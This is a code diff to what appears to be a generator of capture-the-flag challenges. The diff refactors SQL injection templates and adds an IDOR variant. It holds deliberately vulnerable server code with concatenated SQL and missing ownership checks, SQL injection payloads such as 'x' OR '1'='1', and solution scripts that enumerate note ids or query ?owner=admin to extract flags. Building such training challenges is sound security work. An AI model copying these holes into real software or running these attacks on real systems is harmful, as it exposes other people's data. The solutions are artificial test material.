@@ -87,9 +87,9 @@ for row in rows:
 
 # Per template: how the input reaches the WHERE clause, what the index calls it, and an injection that works.
 _SQLI_SHAPES = {
-    "quoted_name": ("\"$ucol = '\" + name + \"'\"", "name", "\"x' OR '1'='1\""),
-    "numeric_id": ("\"id = \" + name", "id", "\"0 OR 1=1\""),
-    "like_search": ("\"$ucol LIKE '%\" + name + \"%'\"", "text", "\"%' OR hidden = 1 OR $ucol LIKE '\""),
+    "quoted_name": ('"$ucol = \'" + name + "\'"', "name", "\"x' OR '1'='1\""),
+    "numeric_id": ('"id = " + name', "id", '"0 OR 1=1"'),
+    "like_search": ('"$ucol LIKE \'%" + name + "%\'"', "text", "\"%' OR hidden = 1 OR $ucol LIKE '\""),
 }
 
 
@@ -130,7 +130,9 @@ def _build_sqli(rng: random.Random, flag: str, shape: str) -> Parts:
         ),
         files={"server.py": server.encode(), flag_file: flag.encode()},
         setup=service_setup(port, "python3 server.py"),
-        solution=py_solution(_SQLI_SOLUTION.substitute(values, payload=Template(payload).substitute(values)), str(port)),
+        solution=py_solution(
+            _SQLI_SOLUTION.substitute(values, payload=Template(payload).substitute(values)), str(port)
+        ),
         subtasks=(
             Subtask("endpoint", "Which URL path (e.g. /api/name) takes user input into a SQL query?", endpoint),
             Subtask("param", "Which query-string parameter of that endpoint is injectable?", values["param"]),
@@ -168,21 +170,21 @@ class Handler(http.server.BaseHTTPRequestHandler):
         path = urllib.parse.urlparse(self.path).path
         if path == "/":
             self._send(200, {"welcome": "guest", "session_token": TOKEN, "send_token_in_header": "$header",
-                             "api": ["GET /$prefix/notes", "GET /$prefix/notes/<id>"]})
+                             "api": ["GET /$prefix/notes$listing_args", "GET /$prefix/notes/<id>"]})
             return
         if self.headers.get("$header") != TOKEN:
             self._send(401, {"error": "missing or bad $header"})
             return
+        query = dict(urllib.parse.parse_qsl(urllib.parse.urlparse(self.path).query))
         if path == "/$prefix/notes":
-            self._send(200, {"your_notes": GUEST_NOTES})
+$listing
         elif path.startswith("/$prefix/notes/"):
             try:
                 note = NOTES[int(path.rsplit("/", 1)[1])]
             except (KeyError, ValueError):
                 self._send(404, {"error": "no such note"})
                 return
-            # the ownership check is missing on purpose: this is the IDOR
-            self._send(200, note)
+$single
         else:
             self._send(404, {"error": "not found"})
 
@@ -193,6 +195,38 @@ class Handler(http.server.BaseHTTPRequestHandler):
 http.server.ThreadingHTTPServer(("127.0.0.1", $port), Handler).serve_forever()
 """
 )
+
+# Per template: where the missing ownership check is (the single-note read, or the listing's owner filter).
+_IDOR_SHAPES = {
+    "note_id": (
+        "",
+        '            self._send(200, {"your_notes": GUEST_NOTES})',
+        "            # the ownership check is missing on purpose: this is the IDOR\n            self._send(200, note)",
+        """
+own = get(prefix)["your_notes"]
+for note_id in range(min(own) - 60, max(own) + 60):
+    note = get("%s/%d" % (prefix, note_id))
+    found = note and re.search(r"flag\\{[0-9a-f]{32}\\}", note["text"])
+    if found:
+        print("note_id=%d" % note_id)
+        print(found.group(0))
+""",
+    ),
+    "owner_filter": (
+        "?owner=<user>",
+        '            owner = query.get("owner", "guest")  # trusted from the query, not the session: the IDOR\n'
+        '            self._send(200, {"notes": [dict(n, id=i) for i, n in NOTES.items() if n["owner"] == owner]})',
+        '            if note["owner"] != "guest":\n                self._send(403, {"error": "not your note"})\n'
+        "                return\n            self._send(200, note)",
+        """
+for note in get(prefix + "?owner=admin")["notes"]:
+    found = re.search(r"flag\\{[0-9a-f]{32}\\}", note["text"])
+    if found:
+        print("note_id=%d" % note["id"])
+        print(found.group(0))
+""",
+    ),
+}
 
 _IDOR_SOLUTION = Template("""
 import json, re, sys, urllib.error, urllib.request
@@ -206,17 +240,18 @@ def get(path):
         return json.loads(urllib.request.urlopen(req).read())
     except urllib.error.HTTPError:
         return None
-own = get(prefix)["your_notes"]
-for note_id in range(min(own) - 60, max(own) + 60):
-    note = get("%s/%d" % (prefix, note_id))
-    found = note and re.search(r"flag\\{[0-9a-f]{32}\\}", note["text"])
-    if found:
-        print("note_id=%d" % note_id)
-        print(found.group(0))
-""")
+$attack""")
 
 
-def build_idor(rng: random.Random, flag: str) -> Parts:
+def _idor(shape: str) -> Builder:
+    def build(rng: random.Random, flag: str) -> Parts:
+        return _build_idor(rng, flag, shape)
+
+    build.__name__ = shape
+    return build
+
+
+def _build_idor(rng: random.Random, flag: str, shape: str) -> Parts:
     port = port_for(rng, 22000)
     flag_file = ident(rng, ".f", 8)
     base_id = rng.randint(1000, 9000)
@@ -235,6 +270,7 @@ def build_idor(rng: random.Random, flag: str) -> Parts:
         "prefix": ident(rng, "", 5),
         "port": str(port),
     }
+    values["listing_args"], values["listing"], values["single"], attack = _IDOR_SHAPES[shape]
     server = _IDOR_SERVER.substitute(values)
     return Parts(
         prompt=(
@@ -243,7 +279,7 @@ def build_idor(rng: random.Random, flag: str) -> Parts:
         ),
         files={"server.py": server.encode(), flag_file: flag.encode()},
         setup=service_setup(port, "python3 server.py"),
-        solution=py_solution(_IDOR_SOLUTION.substitute(values), str(port)),
+        solution=py_solution(_IDOR_SOLUTION.substitute(values, attack=attack), str(port)),
         subtasks=(
             Subtask("header", "Which HTTP request header carries the session token?", header),
             Subtask(
@@ -254,3 +290,6 @@ def build_idor(rng: random.Random, flag: str) -> Parts:
         recon=("cat server.py", f"curl -s http://127.0.0.1:{port}/"),
         port=port,
     )
+
+
+build_idor = Templates(tuple(_idor(shape) for shape in _IDOR_SHAPES))
